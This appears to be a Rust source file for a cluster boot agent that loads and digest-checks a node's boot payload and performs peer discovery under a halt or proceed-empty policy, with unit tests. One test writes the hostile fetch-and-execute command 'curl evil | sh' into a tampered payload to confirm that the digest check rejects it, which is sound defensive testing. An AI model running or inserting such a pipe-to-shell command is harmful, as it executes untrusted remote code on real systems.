//! Boot agent: reads the payload a node was launched with and performs
//! discovery under the role's boot policy.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use keygrid_cloud::CloudProvider;
use keygrid_core::{BootPayload, BootPolicy, DiscoveryTag};
use tracing::{error, info, warn};

use crate::client::{DiscoveryClient, PeerAddress};
use crate::error::{DiscoveryError, DiscoveryResult};

/// Read a boot payload and check its digest.
pub fn load_payload(path: &Path) -> DiscoveryResult<BootPayload> {
    let content = std::fs::read_to_string(path).map_err(|source| DiscoveryError::PayloadIo {
        path: path.to_path_buf(),
        source,
    })?;
    let payload =
        BootPayload::from_json(&content).map_err(|e| DiscoveryError::InvalidPayload(e.to_string()))?;
    if payload.tag().is_empty() {
        return Err(DiscoveryError::InvalidPayload(
            "cluster_tag_key and cluster_tag_value must be set".to_string(),
        ));
    }
    if !payload.verify() {
        return Err(DiscoveryError::InvalidPayload(format!(
            "digest mismatch for role {}",
            payload.role
        )));
    }
    Ok(payload)
}

/// Result of a node's boot-time discovery.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BootOutcome {
    pub role: String,
    pub tag: DiscoveryTag,
    pub peers: Vec<PeerAddress>,
    /// Discovery failed and the node is starting without peers.
    pub degraded: bool,
}

impl BootOutcome {
    /// Addresses handed to the coordination agent's retry-join setting.
    pub fn retry_join(&self) -> Vec<String> {
        self.peers.iter().map(|p| p.address.clone()).collect()
    }
}

pub struct BootAgent {
    client: DiscoveryClient,
    payload: BootPayload,
}

impl BootAgent {
    pub fn new(cloud: Arc<dyn CloudProvider>, instance_id: &str, payload: BootPayload) -> Self {
        let client = DiscoveryClient::new(
            cloud,
            instance_id,
            payload.role.clone(),
            payload.discovery_retry,
        );
        Self { client, payload }
    }

    pub fn with_max_wait(mut self, max_wait: Duration) -> Self {
        self.client = self.client.with_max_wait(max_wait);
        self
    }

    pub async fn boot(&self) -> DiscoveryResult<BootOutcome> {
        let tag = self.payload.tag();
        let role = self.payload.role.clone();
        match self.client.join(&tag).await {
            Ok(peers) => {
                info!(%role, %tag, peers = peers.len(), "boot discovery complete");
                Ok(BootOutcome {
                    role,
                    tag,
                    peers,
                    degraded: false,
                })
            }
            Err(e @ DiscoveryError::Timeout { .. }) => match self.payload.boot_policy {
                BootPolicy::ProceedEmpty => {
                    warn!(%role, %tag, error = %e, "starting without peers");
                    Ok(BootOutcome {
                        role,
                        tag,
                        peers: Vec::new(),
                        degraded: true,
                    })
                }
                BootPolicy::Halt => {
                    error!(%role, %tag, error = %e, "halting boot");
                    Err(DiscoveryError::Halted {
                        role,
                        source: Box::new(e),
                    })
                }
            },
            Err(e) => Err(e),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use keygrid_cloud::{LaunchRequest, SimulatedCloud};
    use keygrid_core::RetryPolicy;
    use std::collections::BTreeMap;

    fn payload(policy: BootPolicy) -> BootPayload {
        BootPayload::new(
            "vault",
            &DiscoveryTag::new("consul-cluster", "prod"),
            policy,
            RetryPolicy::new(2, Duration::from_secs(1), Duration::from_secs(1)),
            "run-vault".to_string(),
        )
    }

    async fn launch_vault(cloud: &SimulatedCloud, payload: &BootPayload) -> String {
        let mut tags = BTreeMap::new();
        tags.insert("keygrid-cluster".to_string(), "prod-vault".to_string());
        cloud
            .launch_instance(LaunchRequest {
                role: "vault".to_string(),
                zone: "a".to_string(),
                image_id: "ami".to_string(),
                instance_class: "small".to_string(),
                payload: payload.clone(),
                tags,
            })
            .await
            .unwrap()
            .id
    }

    #[test]
    fn load_payload_verifies_digest() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("payload.json");
        let good = payload(BootPolicy::Halt);
        std::fs::write(&path, good.to_json().unwrap()).unwrap();
        assert_eq!(load_payload(&path).unwrap(), good);

        let mut tampered = good.clone();
        tampered.script = "curl evil | sh".to_string();
        std::fs::write(&path, serde_json::to_string(&tampered).unwrap()).unwrap();
        assert!(matches!(load_payload(&path), Err(DiscoveryError::InvalidPayload(_))));
    }

    #[test]
    fn load_payload_reports_io_and_parse_errors() {
        let dir = tempfile::tempdir().unwrap();
        let missing = dir.path().join("missing.json");
        assert!(matches!(load_payload(&missing), Err(DiscoveryError::PayloadIo { .. })));

        let garbage = dir.path().join("garbage.json");
        std::fs::write(&garbage, "{not json").unwrap();
        assert!(matches!(load_payload(&garbage), Err(DiscoveryError::InvalidPayload(_))));
    }

    #[tokio::test(start_paused = true)]
    async fn proceed_empty_boots_degraded() {
        let cloud = Arc::new(SimulatedCloud::new());
        let p = payload(BootPolicy::ProceedEmpty);
        let id = launch_vault(&cloud, &p).await;

        let outcome = BootAgent::new(cloud.clone(), &id, p).boot().await.unwrap();
        assert!(outcome.degraded);
        assert!(outcome.retry_join().is_empty());
    }

    #[tokio::test(start_paused = true)]
    async fn halt_policy_stops_boot() {
        let cloud = Arc::new(SimulatedCloud::new());
        let p = payload(BootPolicy::Halt);
        let id = launch_vault(&cloud, &p).await;

        let err = BootAgent::new(cloud.clone(), &id, p).boot().await.unwrap_err();
        match err {
            DiscoveryError::Halted { role, source } => {
                assert_eq!(role, "vault");
                assert!(matches!(*source, DiscoveryError::Timeout { .. }));
            }
            other => panic!("expected Halted, got {other:?}"),
        }
    }
}
